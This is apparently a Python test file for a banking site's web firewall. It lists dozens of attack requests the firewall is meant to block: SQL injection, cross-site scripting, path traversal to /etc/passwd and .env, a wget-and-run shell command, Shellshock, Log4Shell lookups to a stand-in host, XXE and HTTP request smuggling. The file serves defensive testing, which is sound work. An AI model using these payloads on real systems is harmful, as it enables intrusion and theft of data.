"""Attacks that the firewall refuses: each is a name and the data sent. None of them may reach the bank."""

import json
from collections.abc import Callable
from urllib.parse import quote, urlencode

from tests.firewall.visitor import Answer, Visitor

Attack = Callable[[Visitor], Answer]

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
UNION = "x' UNION SELECT email, password FROM accounts_user--"


def form(path: str = "/help/messages/new/", **fields: str) -> Attack:
    return lambda visitor: visitor.post(path, fields)


def query(path: str = "/history/", **fields: str) -> Attack:
    return lambda visitor: visitor.get(path, fields)


def url(path: str, method: str = "GET") -> Attack:
    return lambda visitor: visitor.ask(method, path)


def json_body(text: str, headers: dict[str, str] | None = None, path: str = "/api/v1/transfers") -> Attack:
    return lambda visitor: visitor.ask("POST", path, text, JSON if headers is None else headers)


def header(name: str, value: str) -> Attack:
    return lambda visitor: visitor.ask("GET", "/sign-in/", headers={name: value})


def raw(text: str) -> Attack:
    return lambda visitor: visitor.raw(text)


def chunked(path: str, body: str, headers: dict[str, str]) -> Attack:
    return lambda visitor: visitor.ask("POST", path, body, headers, chunked=True)


SQL: dict[str, Attack] = {
    "SQL in a form": form(subject="Hello", text=UNION),
    "SQL in an e-mail address": form("/sign-in/", email="a@example.com' OR '1'='1' --", password="x"),
    "SQL that waits": form(description="1; WAITFOR DELAY '0:0:10'--"),
    "SQL that sleeps": form(nickname="1 AND SLEEP(10)"),
    "SQL in a query": query(text=UNION),
    "SQL in a number": query(min_amount="1 OR 1=1"),
    "SQL in the name of a field": query(**{"x' UNION SELECT password FROM accounts_user--": "1"}),
    "SQL in a staff filter": query("/admin/accounts/user/", q=UNION),
    "SQL in JSON": json_body('{"description": "' + UNION + '"}'),
    "SQL deep in JSON": json_body('{"a": [{"b": {"c": "1\' OR \'1\'=\'1\' --"}}]}'),
    "SQL in JSON written with escapes": json_body(
        '{"description": "x\\u0027 \\u0055NION SELECT email, password FROM accounts_user--"}'
    ),
    "SQL in JSON without a Content-Type": json_body('{"description": "' + UNION + '"}', headers={}),
    "SQL in JSON that says it is a form": json_body('{"description": "' + UNION + '"}', headers=FORM),
    "SQL in JSON that says it is text": json_body('{"d": "' + UNION + '"}', headers={"Content-Type": "text/plain"}),
    "SQL in a form sent in chunks": chunked("/help/messages/new/", urlencode({"text": UNION}), FORM),
    "SQL in JSON sent in chunks": chunked("/api/v1/transfers", '{"description": "' + UNION + '"}', JSON),
    "SQL in chunks without a Content-Type": chunked("/help/messages/new/", urlencode({"text": UNION}), {}),
    "SQL in a cookie": header("Cookie", "theme=" + quote(UNION)),
    "SQL in a segment of the path": url(f"/accounts/{quote(UNION, safe='')}/"),
    "SQL without a quote in a segment": url(f"/accounts/{quote('1 UNION SELECT password FROM accounts_user')}/"),
    "SQL in the path of the API": url("/api/v1/accounts/" + quote("1' OR '1'='1") + "/transactions"),
    "SQL that compares in a segment": url("/help/messages/" + quote("1 OR 1=1") + "/"),
    "SQL that sleeps in a segment": url("/receipts/" + quote("1;SELECT SLEEP(10)") + "/"),
    "SQL encoded twice in a segment": url("/accounts/" + quote(quote(UNION, safe=""), safe="") + "/"),
}

# Names that only sound like a secret's: no rule may pass over them.
SOUNDING = (
    "mypass_x",
    "passport",
    "token_x",
    "xtoken",
    "mysecret",
    "secret",
    "pin_code",
    "my.code",
    "csrf",
    "PASSWORD",
)
NAMED_LIKE_SECRETS: dict[str, Attack] = {
    **{f"SQL in the field {name}": form(**{name: UNION}) for name in SOUNDING},
    **{f"a script in the parameter {name}": query(**{name: "<script>alert(1)</script>"}) for name in SOUNDING},
    **{f"SQL in the JSON of {name}": json_body(json.dumps({name: UNION})) for name in SOUNDING},
    **{
        f"SQL in the cookie {name}": header("Cookie", f"{name}={quote(UNION)}")
        for name in ("mysession", "session", "csrf_x", "device", "SESSIONID", "sessionid2")
    },
}

SCRIPTS: dict[str, Attack] = {
    "a script in a form": form(subject="<script>alert(document.cookie)</script>", text="x"),
    "a script in a free text": form(text='<img src=x onerror="fetch(`//evil.example`)">'),
    "a script in a name": form("/help/requests/new/?kind=update_identity", first_name="<svg/onload=alert(1)>"),
    "a script in a query": query(text="<script>alert(1)</script>"),
    "a script in the path": url("/accounts/%3Cscript%3Ealert(1)%3C/script%3E/"),
    "a script in JSON": json_body('{"nickname": "<script>alert(1)</script>"}'),
    "a javascript: address": query(next="javascript:alert(1)"),
}

FILES: dict[str, Attack] = {
    "traversal": url("/static/../../../../etc/passwd"),
    "traversal with encoded dots": url("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    "traversal encoded twice": url("/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    "traversal with backslashes": url("/static/..%5c..%5c..%5cwindows%5cwin.ini"),
    "traversal in a query": query(next="../../../../etc/passwd"),
    "a file of the system": query(text="/etc/passwd"),
    "the repository": url("/.git/config"),
    "the secrets": url("/.env"),
    "a file from elsewhere": query(next="http://198.51.100.1/shell.txt?"),
    "a zero byte in the path": url("/static/img/favicon.svg%00.html"),
    "a zero byte in a form": form(subject="a\0b", text="x"),
    "a zero byte in JSON": json_body('{"description": "a\\u0000b"}'),
}

COMMANDS: dict[str, Attack] = {
    "a shell command in a query": query(next="; cat /etc/passwd"),
    "a shell command in a form": form(kind="$(wget http://198.51.100.1/x -O /tmp/x; sh /tmp/x)"),
    "a shell function in a header": header("X-Test", "() { :;}; /bin/bash -c 'id'"),
    "PHP in a form": form(text="<?php system($_GET['c']); ?>"),
    "PHP in a query": query(c="php://input"),
    "a Java look-up in a header": header("X-Api-Version", "${jndi:ldap://198.51.100.1/a}"),
    "a Java look-up in the user agent": header("User-Agent", "${jndi:rmi://198.51.100.1/a}"),
    "a Java look-up in a cookie": header("Cookie", "sessionid=${jndi:ldap://198.51.100.1/a}"),
    "a Java look-up in Authorization": header("Authorization", "Bearer ${jndi:ldap://198.51.100.1/a}"),
    "a Java look-up in a form": form(text="Hello ${jndi:ldap://198.51.100.1/a}"),
    "a Java look-up in a password": form("/sign-in/", email="a@example.com", password="${jndi:dns://x}"),
    "a Java look-up in JSON": json_body('{"password": "${jndi:ldap://198.51.100.1/a}"}'),
    "a Java look-up in the address": url("/" + quote("${jndi:ldap://198.51.100.1/a}")),
    "a disguised Java look-up": query(text="${${lower:j}ndi:ldap://198.51.100.1/a}"),
    "code for Node": json_body('{"__proto__": {"x": "require(\'child_process\').exec(\'id\')"}}'),
}

ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'

PROTOCOL: dict[str, Attack] = {
    "an XML entity": json_body(ENTITY, {"Content-Type": "application/xml"}),
    "an XML entity to a page": json_body(ENTITY, {"Content-Type": "text/xml"}, "/help/messages/new/"),
    "XML without a Content-Type": json_body(ENTITY, {}),
    "a form under /api/": json_body("amount=1", FORM),
    "JSON that does not parse": json_body('{"description": '),
    "JSON without end": json_body('{"a":' * 200 + "1" + "}" * 200),
    "two Content-Types": raw(
        "POST /help/messages/new/ HTTP/1.1\nHost: localhost\nUser-Agent: x\nAccept: */*\nConnection: close\n"
        "Content-Type: text/plain\nContent-Type: application/json\nContent-Length: 2\n\n{}"
    ),
    "GET with a body": lambda visitor: visitor.ask("GET", "/sign-in/", "a=b", FORM),
    "TRACE": url("/", "TRACE"),
    "CONNECT": raw("CONNECT localhost:22 HTTP/1.1\nHost: localhost\nConnection: close\n\n"),
    "PUT outside the API": lambda visitor: visitor.ask("PUT", "/profile/", "a=b", FORM),
    "DELETE outside the API": url("/payees/", "DELETE"),
    "PATCH outside the API": lambda visitor: visitor.ask("PATCH", "/profile/", "a=b", FORM),
    "a method nobody knows": url("/", "PROPFIND"),
    "a method in a header": header("X-HTTP-Method-Override", "DELETE"),
    "another address in a header": header("Content-Encoding", "gzip"),
    "a header in a query": query(next="/%0d%0aSet-Cookie:%20sessionid=evil", a="x\r\nSet-Cookie: sessionid=evil"),
    "a line break in a header": raw("GET / HTTP/1.1\nHost: localhost\nX-A: b\rX-B: c\nConnection: close\n\n"),
    "another answer in a form": form(next="x\r\nHTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nowned"),
    "two lengths": raw(
        "POST / HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: 3\nContent-Length: 5\n\n{}"
    ),
    "a length and chunks": raw(
        "POST /sign-in/ HTTP/1.1\nHost: localhost\nContent-Type: application/x-www-form-urlencoded\n"
        "Content-Length: 6\nTransfer-Encoding: chunked\n\n0\n\nGET /admin/ HTTP/1.1\nHost: localhost\n\n"
    ),
    "chunks under another name": raw(
        "POST /sign-in/ HTTP/1.1\nHost: localhost\nContent-Type: application/x-www-form-urlencoded\n"
        "Transfer-Encoding: xchunked\nConnection: close\n\n0\n\n"
    ),
    "no Host": raw("GET / HTTP/1.1\nConnection: close\n\n"),
    "another Host": header("Host", "evil.example"),
    "another Host beside a whole address": raw(
        "GET http://localhost/sign-in/ HTTP/1.1\nHost: evil.example\nUser-Agent: x\nAccept: */*\nConnection: close\n\n"
    ),
    "a whole address of another Host": raw(
        "GET http://evil.example/sign-in/ HTTP/1.1\nHost: localhost\nUser-Agent: x\nAccept: */*\nConnection: close\n\n"
    ),
    "a whole address of our own": raw(
        "GET HTTP://localhost/sign-in/ HTTP/1.1\nHost: localhost\nUser-Agent: x\nAccept: */*\nConnection: close\n\n"
    ),
    "a whole address as Host": header("Host", "http://localhost/"),
    "a name with a port that is another Host's": header("Host", "localhost@evil.example:80"),
    "a body too long": lambda visitor: visitor.ask("POST", "/help/messages/new/", "text=" + "a" * 300_000, FORM),
    "a body too long in chunks": chunked("/help/messages/new/", "text=" + "a" * 300_000, FORM),
    "too many fields": form(**{f"field{number}": "x" for number in range(400)}),
    "an address too long": url("/?text=" + "a" * 40_000),
}

SCANNERS = ("sqlmap/1.8.4#stable", "Nikto/2.5.0", "Nessus SOAP", "Nuclei - Open-source", "Wapiti/3.2", "WPScan v3.8")

ATTACKS: dict[str, Attack] = {
    **SQL,
    **NAMED_LIKE_SECRETS,
    **SCRIPTS,
    **FILES,
    **COMMANDS,
    **PROTOCOL,
    **{f"the scanner {name}": header("User-Agent", name) for name in SCANNERS},
}
